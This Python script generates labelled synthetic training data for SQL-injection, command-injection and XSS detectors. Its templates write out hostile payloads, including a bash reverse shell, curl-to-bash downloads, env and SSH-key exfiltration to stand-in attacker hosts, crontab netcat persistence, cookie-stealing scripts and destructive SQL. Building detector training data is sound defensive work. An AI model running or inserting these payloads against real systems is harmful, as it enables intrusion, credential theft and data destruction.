#!/usr/bin/env python3
"""Generate the committed synthetic training corpora (~2k rows/detector).

CSV columns: payload,label (1 malicious, 0 benign). Deterministic output
under data/corpora/; the training kit and the model-fixture script both
consume these files.
"""

import csv
import random
from pathlib import Path

OUT_DIR = Path(__file__).resolve().parent.parent / "data" / "corpora"

TABLES = ["users", "accounts", "orders", "products", "sessions", "staff",
          "payments", "logs", "tokens", "customers"]
COLUMNS = ["id", "name", "email", "password", "role", "balance", "status"]
FIRST_NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace",
               "heidi", "ivan", "judy", "mallory", "oscar", "peggy", "trent"]
DOMAINS = ["example.com", "mail.test", "shop.example", "corp.internal.example"]
WORDS = ("please find my order the quick brown fox jumped over lazy dog "
         "meeting notes for project alpha beta release schedule summary "
         "customer asked about refund policy shipping update tracking "
         "weather forecast sunny cloudy rain temperature profile settings "
         "change password help support ticket thanks regards invoice").split()
HOSTS = ["evil.example", "attacker.test", "10.0.0.5", "172.16.3.9", "badcdn.example"]
FILES = ["/etc/passwd", "/etc/shadow", "/var/log/auth.log", "~/.ssh/id_rsa",
         "/etc/hosts", "C:\\Windows\\system32\\config\\SAM"]
COMMANDS = ["ls", "cat", "whoami", "id", "uname -a", "pwd", "env", "ps aux",
            "netstat -an", "ifconfig"]


def sentence(rng, lo=3, hi=10):
    return " ".join(rng.choices(WORDS, k=rng.randint(lo, hi)))


def gen_sqli(rng):
    table = rng.choice(TABLES)
    column = rng.choice(COLUMNS)
    n = rng.randint(1, 99)
    templates = [
        lambda: f"' OR '{n}'='{n}' --",
        lambda: f"' OR {n}={n} --",
        lambda: f"admin'-- {sentence(rng, 1, 2)}",
        lambda: f"{n}; DROP TABLE {table}--",
        lambda: f"'; DROP TABLE {table}; --",
        lambda: f"' UNION SELECT {column}, password FROM {table}--",
        lambda: f"{n}' UNION ALL SELECT NULL,{column} FROM {table} --",
        lambda: f"1' AND SLEEP({rng.randint(1, 9)})--",
        lambda: f"'; WAITFOR DELAY '0:0:{rng.randint(1, 9)}'--",
        lambda: f"' AND BENCHMARK({n}000000, MD5('x'))--",
        lambda: f"SELECT * FROM information_schema.tables WHERE table_name='{table}'",
        lambda: f"{n}'; EXEC xp_cmdshell('dir'); --",
        lambda: f"' OR EXISTS(SELECT {column} FROM {table} WHERE {column} LIKE '%a%')--",
        lambda: f"{n} OR {n}={n}",
        lambda: f"') OR ('{n}'='{n}",
        lambda: f"%27%20OR%20%27{n}%27%3D%27{n}",
        lambda: f"' AND ASCII(SUBSTRING((SELECT database()),{rng.randint(1, 9)},1))>{n} --",
        lambda: f"x' AND {n}=(SELECT COUNT(*) FROM {table}); --",
        lambda: f"INSERT INTO {table} ({column}) VALUES ('x'); DELETE FROM {table}; --",
        lambda: f"SELECT {column} FROM {table} WHERE id IN (SELECT id FROM {rng.choice(TABLES)})",
        lambda: f"' OR 0x{n:02x} = 0x{n:02x} --",
        lambda: f"UPDATE {table} SET {column}='pwned' WHERE {n}={n}; --",
        lambda: f"pg_sleep({rng.randint(1, 9)}) --",
        lambda: f"1 AND (SELECT * FROM (SELECT(SLEEP({rng.randint(1, 5)})))x)",
    ]
    return rng.choice(templates)()


def gen_osi(rng):
    cmd = rng.choice(COMMANDS)
    host = rng.choice(HOSTS)
    path = rng.choice(FILES)
    port = rng.randint(1024, 9999)
    templates = [
        lambda: f"; {cmd}",
        lambda: f"| {cmd}",
        lambda: f"&& {cmd}",
        lambda: f"|| {cmd}",
        lambda: f"`{cmd}`",
        lambda: f"$({cmd})",
        lambda: f"; cat {path}",
        lambda: f"{sentence(rng, 1, 3)}; {cmd} | nc {host} {port}",
        lambda: f"wget http://{host}/payload.sh && sh payload.sh",
        lambda: f"curl http://{host}/x.sh | bash",
        lambda: f"bash -i >& /dev/tcp/{host}/{port} 0>&1",
        lambda: f"python -c 'import os; os.system(\"{cmd}\")'",
        lambda: f"sudo chmod 777 {path}",
        lambda: f"; rm -rf /tmp/{rng.choice(TABLES)}",
        lambda: f"ping -c {rng.randint(1, 9)} {host}; uname -a",
        lambda: f"; env | base64 | nc {host} {port}",
        lambda: f"scp {path} root@{host}:/tmp/",
        lambda: f"echo ${{IFS}}{cmd}",
        lambda: f"; mkfifo /tmp/f; cat /tmp/f | sh",
        lambda: f"nohup nc -lvp {port} &",
        lambda: f"%0A{cmd}%20{path}",
        lambda: f"{sentence(rng, 1, 2)} && sudo su -",
        lambda: f"; crontab -l; echo '* * * * * nc {host} {port}' | crontab -",
        lambda: f"sh -c 'curl http://{host}/p.sh | sh'",
    ]
    return rng.choice(templates)()


def gen_xss(rng):
    host = rng.choice(HOSTS)
    n = rng.randint(1, 99)
    templates = [
        lambda: f"<script>alert({n})</script>",
        lambda: f"<img src=x onerror=alert({n})>",
        lambda: f"<iframe src=\"javascript:alert('{n}')\"></iframe>",
        lambda: "<svg/onload=alert(document.cookie)>",
        lambda: f"<body onload=prompt({n})>",
        lambda: f"javascript:alert(String.fromCharCode({n},83,83))",
        lambda: f"%3Cscript%3Ealert({n})%3C/script%3E",
        lambda: f"&lt;script&gt;alert({n})&lt;/script&gt;",
        lambda: f"<input onfocus=alert({n}) autofocus>",
        lambda: f"<script src=\"http://{host}/x.js\"></script>",
        lambda: f"\"><script>document.write('<img src=http://{host}/c?'+document.cookie+'>')</script>",
        lambda: f"<a href=\"#\" onclick=\"eval(atob('YWxlcnQoe{n}k='))\">x</a>",
        lambda: f"<video><source onerror=\"fetch('http://{host}/'+document.cookie)\">",
        lambda: f"<marquee onstart=confirm({n})>",
        lambda: f"<embed src=\"http://{host}/f.swf\">",
        lambda: f"<script>setTimeout(function(){{location='http://{host}/'}},{n})</script>",
        lambda: f"<ScRiPt>unescape('%61%6c%65%72%74({n})')</ScRiPt>",
        lambda: f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert({n})\">",
        lambda: f"'\"><svg onload=window.open('//{host}')>",
        lambda: f"<details open ontoggle=alert({n})>",
        lambda: f"<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
        lambda: f"<form action=\"http://{host}/steal\"><input name=q></form>",
    ]
    return rng.choice(templates)()


def gen_benign(rng):
    name = rng.choice(FIRST_NAMES)
    domain = rng.choice(DOMAINS)
    n = rng.randint(1, 99999)
    templates = [
        lambda: f"{name}@{domain}",
        lambda: sentence(rng),
        lambda: f"order #{n} status",
        lambda: f"{name} {rng.choice(FIRST_NAMES)}",
        lambda: f"https://docs.{domain}/guide?page={n % 40}",
        lambda: f"call me at +1-555-{n % 10000:04d}",
        lambda: f"{sentence(rng, 2, 5)}?",
        lambda: f"invoice {n} due {rng.randint(1, 28)}/0{rng.randint(1, 9)}",
        lambda: f"search: {sentence(rng, 1, 4)}",
        lambda: f"/home/{name}/documents/report_{n}.pdf",
        lambda: f"version {rng.randint(0, 9)}.{rng.randint(0, 20)}.{rng.randint(0, 9)}",
        lambda: f"the select committee discussed {sentence(rng, 2, 4)}",
        lambda: f"union members {sentence(rng, 2, 4)}",
        lambda: f"{n} items in cart",
        lambda: f"note: {sentence(rng, 3, 8)}.",
        lambda: f"update my address to {n} main street",
        lambda: f"{name.capitalize()} read a javascript tutorial yesterday",
        lambda: f"price is ${n}.{rng.randint(0, 99):02d}",
    ]
    return rng.choice(templates)()


def build(kind, gen_attack, rng, total=2000):
    rows = {}
    target_malicious = total // 2
    while sum(1 for label in rows.values() if label == 1) < target_malicious:
        rows.setdefault(gen_attack(rng), 1)
    while sum(1 for label in rows.values() if label == 0) < total - target_malicious:
        payload = gen_benign(rng)
        if payload not in rows:
            rows[payload] = 0
    items = list(rows.items())
    rng.shuffle(items)
    return items


def main():
    OUT_DIR.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1337)
    for kind, gen in (("sqli", gen_sqli), ("osi", gen_osi), ("xss", gen_xss)):
        rows = build(kind, gen, rng)
        path = OUT_DIR / f"{kind}.csv"
        with open(path, "w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh, quoting=csv.QUOTE_ALL)
            writer.writerow(["payload", "label"])
            writer.writerows(rows)
        malicious = sum(1 for _, label in rows if label == 1)
        print(f"{path}: {len(rows)} rows ({malicious} malicious)")


if __name__ == "__main__":
    main()
